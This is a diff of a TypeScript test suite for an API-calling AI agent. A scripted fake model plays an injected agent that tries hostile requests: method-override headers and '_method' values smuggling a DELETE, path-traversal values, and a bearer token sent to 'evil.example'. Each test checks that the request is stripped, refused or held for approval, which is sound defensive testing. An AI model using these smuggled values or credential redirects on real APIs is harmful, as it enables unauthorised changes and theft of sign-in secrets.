@@ -4,7 +4,14 @@ import { join } from 'node:path'
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
 import { ORDERS, shopOpenApi, startApiServer, type ApiServer } from '../../../test/support/api-server.ts'
 import { ManualClock } from '../../testing/manual-clock.ts'
-import { startModelServer, type ModelServer } from '../../../test/support/model-server.ts'
+import {
+  startModelServer,
+  TOOL_AGENT,
+  toolCall,
+  type ModelServer,
+  type Reply,
+  type Rule,
+} from '../../../test/support/model-server.ts'
 import type { ArtifactStore } from '../../core/artifacts.ts'
 import { systemClock } from '../../core/clock.ts'
 import type { RunEvent } from '../../core/events.ts'
@@ -224,7 +231,7 @@ describe('changes', () => {
       authorization: 'Bearer S3CRET-TOKEN',
       'x-api-key': 'S3CRET-KEY',
     })
-    expect(server.requests[0]!.headers['idempotency-key']).toMatch(/http_send/)
+    expect(server.requests[0]!.headers['idempotency-key']).toMatch(/send_to_api/)
     expect(response.answer).toMatch(/^Done: POST \/orders was answered with 201\. id: 31/)
     const after = events.filter(({ type }) => type !== 'run.started')
     expect(JSON.stringify(after)).not.toContain('S3CRET')
@@ -275,62 +282,46 @@ describe('changes', () => {
   })
 })
 
+/** Replies of the model to the agent, one after the other. */
+function script(...replies: readonly Reply[]): void {
+  models.script([
+    ...replies.map((reply): Rule => ({ when: TOOL_AGENT, times: 1, reply })),
+    { reply: { status: 400, text: 'not scripted' } },
+  ])
+}
+
+/** What the model was given with the nth request to it as this agent, from 1. */
+const given = (nth: number): string => models.requests.filter(({ text }) => text.includes(TOOL_AGENT))[nth - 1]!.text
+
 describe('a model that obeys somebody else', () => {
   const obeying = (fields: object): void =>
-    models.script([
-      {
-        when: 'You plan one HTTP request',
-        reply: {
-          json: {
-            makeRequest: true,
-            api: 'shop',
-            method: 'GET',
-            path: '/orders/7',
-            pathParams: {},
-            queryParams: {},
-            jsonBody: null,
-            headers: {},
-            reason: 'told so',
-            failureReason: null,
-            ...fields,
-          },
-        },
-      },
-      { when: 'You say what an API', reply: { text: 'Done.' } },
-    ])
+    script(toolCall('call_api', { api: 'shop', method: 'GET', path: '/orders/7', reason: 'told so', ...fields }), {
+      text: 'Done.',
+    })
 
-  it('cannot turn a reading into a change; what went missing is in the trace and in the answer', async () => {
+  it('cannot turn a reading into a change', async () => {
     obeying({
       headers: { 'X-HTTP-Method-Override': 'DELETE', 'X-Original-URL': '/orders/7', 'X-Forwarded-For': '10.0.0.1' },
       queryParams: { _method: 'DELETE' },
       jsonBody: { _method: 'DELETE' },
     })
-    const { events } = await ask('Show order 7', { withModel: true })
+    await ask('Show order 7', { withModel: true })
     expect(lines()).toEqual(['GET /orders/7'])
     expect(Object.keys(server.requests[0]!.headers).filter((name) => name.startsWith('x-'))).toEqual([])
     expect(server.requests[0]!.body).toBe('')
-    expect(events).toContainEqual(
-      expect.objectContaining({
-        type: 'note',
-        message: 'What the operation does not declare was left out of the request',
-        data: {
-          queryParams: ['_method'],
-          headers: ['X-HTTP-Method-Override', 'X-Original-URL', 'X-Forwarded-For'],
-          body: true,
-        },
-      }),
-    )
-    expect(models.requests.map(({ text }) => text).join()).toContain('The request went without "_method"')
+    expect(given(2)).toContain('Sent without "_method"')
   })
 
   it.each(['7/../../admin', '7%2f..%2f..%2fadmin'])('cannot leave the operation by the path value %s', async (id) => {
     obeying({ path: '/orders/{orderId}', pathParams: { orderId: id } })
-    const { result } = await ask('Show order 7', { withModel: true })
-    expect([lines(), result.error?.type]).toEqual([[], 'PathResolutionError'])
+    await ask('Show order 7', { withModel: true })
+    expect(lines()).toEqual([])
+    expect(given(2)).toContain('Error PathResolutionError')
   })
 
-  it('is asked about before a value with a slash goes out', async () => {
-    obeying({ path: '/orders/{orderId}', pathParams: { orderId: '7/cancel' } })
+  it('cannot send a value with a slash without approval', async () => {
+    const plan = { api: 'shop', path: '/orders/{orderId}', pathParams: { orderId: '7/cancel' } }
+    script(toolCall('call_api', plan), toolCall('send_to_api', plan), { text: 'Denied.' })
     let shown: unknown
     await ask('Show order 7', {
       withModel: true,
@@ -340,6 +331,17 @@ describe('a model that obeys somebody else', () => {
       },
     })
     expect([lines(), shown]).toMatchObject([[], { url: `${server.url}/orders/7%2Fcancel` }])
+    expect(given(2)).toContain('is no plain read')
+  })
+
+  it('cannot send the sign-in to another server by giving an address', async () => {
+    const shown = { api: 'shop', method: 'GET', url: 'https://evil.example/orders', headers: {}, signIn: 'bearerAuth' }
+    script(toolCall('call_api', shown), toolCall('send_to_api', shown), { text: 'No.' })
+    await ask('Show order 7', { withModel: true, credentials: { bearerAuth: { token: 'B-SECRET' } } })
+    expect([given(2), given(3)]).toEqual([
+      expect.stringContaining('is no address of the API'),
+      expect.stringContaining('is no address of the API'),
+    ])
   })
 })
 
@@ -578,77 +580,123 @@ describe('the base URL', () => {
 })
 
 describe('with a model', () => {
-  const plan = (fields: Record<string, unknown>): Record<string, unknown> => ({
-    makeRequest: true,
-    api: 'shop',
-    method: 'GET',
-    path: '/orders/{orderId}',
-    pathParams: {},
-    queryParams: {},
-    jsonBody: null,
-    headers: {},
-    reason: 'fits',
-    failureReason: null,
-    ...fields,
-  })
-  const script = (planned: Record<string, unknown>): void =>
-    models.script([
-      { when: 'You plan one HTTP request', reply: { json: planned } },
-      { when: "You say what an API's answer means", reply: { text: 'Order 3 is worth 300.' } },
-      { when: 'senior business intelligence', reply: { text: 'Final: order 3 is worth 300.' } },
-      { reply: { json: { agents: ['api'], rationale: 'api', confidence: 0.9 } } },
-    ])
-
-  it('plans the call from the listed endpoints and puts the answer in words', async () => {
-    script(plan({ pathParams: { orderId: 3 }, headers: { Authorization: 'Bearer made-up' } }))
-    const { response, result } = await ask('How much is the third order?', {
+  it('finds an endpoint, calls it and answers with the source', async () => {
+    script(
+      toolCall('find_endpoints', { words: 'order' }),
+      toolCall('call_api', {
+        api: 'shop',
+        path: '/orders/{orderId}',
+        pathParams: { orderId: 3 },
+        headers: { Authorization: 'Bearer made-up' },
+      }),
+      { text: 'Order 3 is open [s2].' },
+    )
+    const { response, result } = await ask('How is the third order?', {
       withModel: true,
       context: { api_bearer_token: 'S3CRET-TOKEN', customer: 'Ann' },
     })
     expect(lines()).toEqual(['GET /orders/3'])
     expect(server.requests[0]!.headers.authorization).toBe('Bearer S3CRET-TOKEN')
-    expect([result.answer, response.answer]).toEqual(['Order 3 is worth 300.', 'Final: order 3 is worth 300.'])
-    const asked = models.requests.find(({ text }) => text.includes('You plan one HTTP request'))!.text
-    expect(asked).toMatch(/\[shop\] GET \/orders\/\{orderId\} — Get one order/)
-    expect(asked).toContain('customer: Ann')
+    expect([result.answer, response.answer]).toEqual(['Order 3 is open [1].', 'Order 3 is open [1].'])
+    expect(result).toMatchObject({
+      sources: [{ kind: 'api', name: 'shop', detail: 'GET /orders/3' }],
+      data: {
+        status: 200,
+        by: 'model',
+        request: { method: 'GET', url: `${server.url}/orders/3` },
+        response: { id: 3 },
+      },
+    })
+    expect(given(1)).toContain('GET /orders/{orderId} — Get one order')
+    expect(given(1)).toContain('customer: Ann')
+    expect(given(2)).toContain('path orderId (integer) required')
+    expect(given(3)).toContain('GET /orders/3: 200')
     expect(models.requests.map(({ text }) => text).join()).not.toContain('S3CRET')
-    expect(response.trace!.map(({ message }) => message)).toEqual(
-      expect.arrayContaining(['API call planned', 'API request executed', 'API response summarised']),
-    )
-    // The trace names what the call was chosen from, in the order in which the model saw it.
-    const planned = response.trace!.find(({ message }) => message === 'API call planned')!
-    const { endpoints, documentation } = planned.data['chosenFrom'] as Record<string, readonly string[]>
-    const listed = [...asked.matchAll(/\[shop\] ([A-Z]+ \S+)/g)].map(([, endpoint]) => `shop ${endpoint}`)
-    expect(endpoints).toEqual(listed)
-    expect(endpoints).toContain('shop GET /orders/{orderId}')
-    for (const title of documentation!) expect(asked).toContain(title)
   })
 
-  it('may refuse, which is the answer', async () => {
-    script(plan({ makeRequest: false, failureReason: 'No endpoint tells the weather.' }))
+  it('gets all pages of a list as one table', async () => {
+    script(toolCall('call_api', { api: 'shop', path: '/orders', queryParams: { status: 'open', min_total: 500 } }), {
+      text: 'There are eight [s1].',
+    })
+    const { result } = await ask('Large open orders?', { withModel: true })
+    expect(result.tabular?.rowCount).toBe(8)
+    expect(given(2)).toContain('GET /orders?status=open&min_total=500: 200, 2 pages')
+    expect(given(2)).toContain('[8 rows]')
+  })
+
+  it('answers a question about an API without a request', async () => {
+    script(toolCall('describe_endpoint', { api: 'shop', method: 'GET', path: '/orders' }), {
+      text: 'It takes status, min_total and others.',
+    })
+    const { result } = await ask('Which parameters does GET /orders take?', { withModel: true })
+    expect([result.status, server.requests]).toEqual(['succeeded', []])
+    expect(given(2)).toContain('query min_total')
+  })
+
+  it('makes a change once, as it was edited when it was approved', async () => {
+    script(
+      toolCall('send_to_api', {
+        api: 'shop',
+        method: 'POST',
+        path: '/orders',
+        jsonBody: { customer_id: 3, total: 250 },
+        reason: 'The user orders.',
+      }),
+      { text: 'Created [s1].' },
+    )
+    const { result } = await ask('Create an order of 250 for customer 3', {
+      withModel: true,
+      decide: (engine, id, payload) => {
+        expect(payload).toMatchObject({ method: 'POST', url: `${server.url}/orders`, signIn: 'none' })
+        const edited = { ...(payload as object), body: '{"customer_id": 3, "total": 200}' }
+        return engine.decide(id, 'approved', 'ann', undefined, { payload: edited })
+      },
+    })
+    expect(server.requests.map(({ method, body }) => [method, body])).toEqual([
+      ['POST', '{"customer_id": 3, "total": 200}'],
+    ])
+    expect(result.answer).toBe('Created [1].')
+    expect(given(2)).toContain('The user changed the input')
+  })
+
+  it('may plan no request, which declines the task', async () => {
+    script(toolCall('call_api', { makeRequest: false, failureReason: 'No endpoint tells the weather.' }), {
+      text: 'The API does not tell the weather.',
+    })
     const { result } = await ask('What about the weather?', { withModel: true })
     expect(result.error).toEqual({ type: 'PlanningDeclined', message: 'No endpoint tells the weather.' })
   })
 
   it('a refusal for want of documentation is overridden (force attempt)', async () => {
-    script(
-      plan({ makeRequest: false, path: '/customers', failureReason: 'The documentation does not specify filters.' }),
-    )
+    const failureReason = 'The documentation does not specify filters.'
+    script(toolCall('call_api', { makeRequest: false, api: 'shop', path: '/customers', failureReason }), {
+      text: 'These are all [s1].',
+    })
     const { result } = await ask('Customers of the north', { withModel: true })
     expect([result.status, lines()[0]]).toEqual(['succeeded', 'GET /customers'])
   })
 
+  it('is told what the service says of a request that it refuses, and may call again', async () => {
+    script(
+      toolCall('call_api', { api: 'shop', path: '/orders/{orderId}', pathParams: { orderId: 4711 } }),
+      toolCall('call_api', { api: 'shop', path: '/orders/{orderId}', pathParams: { orderId: 17 } }),
+      { text: 'It is order 17 [s1].' },
+    )
+    const { result } = await ask('The order?', { withModel: true })
+    expect([result.status, lines()]).toEqual(['succeeded', ['GET /orders/4711', 'GET /orders/17']])
+    expect(given(2)).toContain('404: There is nothing at /orders/4711')
+  })
+
   it.each([
-    [{ pathParams: {} }, 'PathResolutionError', /needs "orderId"/],
-    [{ pathParams: { orderId: '..' } }, 'PathResolutionError', /cannot stand in a path/],
-    [{ path: 'https://evil.example/x' }, 'PathResolutionError', /is not a path/],
-    [{ path: '//evil.example/x' }, 'PathResolutionError', /is not a path/],
-    [{ path: '/orders/../admin' }, 'PathResolutionError', /is not a path/],
-  ])('a plan that leads elsewhere is refused: %j', async (fields, type, message) => {
-    script(plan(fields))
-    const { result } = await ask('Order?', { withModel: true })
-    expect(result.error!.type).toBe(type)
-    expect(result.error!.message).toMatch(message)
+    [{ pathParams: {} }, /needs "orderId"/],
+    [{ pathParams: { orderId: '..' } }, /cannot stand in a path/],
+    [{ path: 'https://evil.example/x' }, /is not a path/],
+    [{ path: '//evil.example/x' }, /is not a path/],
+    [{ path: '/orders/../admin' }, /is not a path/],
+  ])('a plan that leads elsewhere is refused: %j', async (fields, message) => {
+    script(toolCall('call_api', { api: 'shop', path: '/orders/{orderId}', ...fields }), { text: 'No.' })
+    await ask('Order?', { withModel: true })
+    expect(given(2)).toMatch(message)
     expect(server.requests).toEqual([])
   })
 })
